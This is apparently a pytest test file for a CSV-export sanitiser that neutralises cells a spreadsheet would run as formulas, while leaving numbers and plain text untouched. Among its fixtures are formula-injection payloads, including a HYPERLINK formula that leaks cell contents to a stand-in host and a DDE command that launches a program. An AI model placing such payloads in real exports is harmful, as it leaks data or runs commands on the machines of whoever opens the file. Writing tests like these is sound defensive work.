"""Cells that a spreadsheet program would run as formulas are neutralised; numbers stay numbers."""

import io
from decimal import Decimal

import pytest

from complaintdesk.lib.spreadsheet import cell, csv_writer


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?leak="&A3&B3,"x")',
        "=1+1",
        "+2+3",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+86 138 1234 5678",  # not only a number: it has spaces between digit groups
    ],
)
def test_text_that_begins_like_a_formula_gets_a_leading_apostrophe(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "The parcel never arrived.",
        "'=1+1",  # already neutral
        " =1+1",  # a leading space: no formula
        "TS-2026-0000136",
        "2026-12-05T10:00:00+08:00",
        "-12.5",
        "+186.2 %",
        "-37.5%",
        -5,
        Decimal("-199.00"),
        1.5,
        None,
    ],
)
def test_numbers_and_other_text_stay_as_they_are(value):
    assert cell(value) == value and type(cell(value)) is type(value)


def test_the_csv_writer_neutralises_every_row():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["line", "id", "reason"])
    writer.writerows([(3, "=1+1", "Complaint ID: '=1+1' is not a number"), (4, "@x", -1)])
    assert out.getvalue() == "line,id,reason\n3,'=1+1,Complaint ID: '=1+1' is not a number\n4,'@x,-1\n"
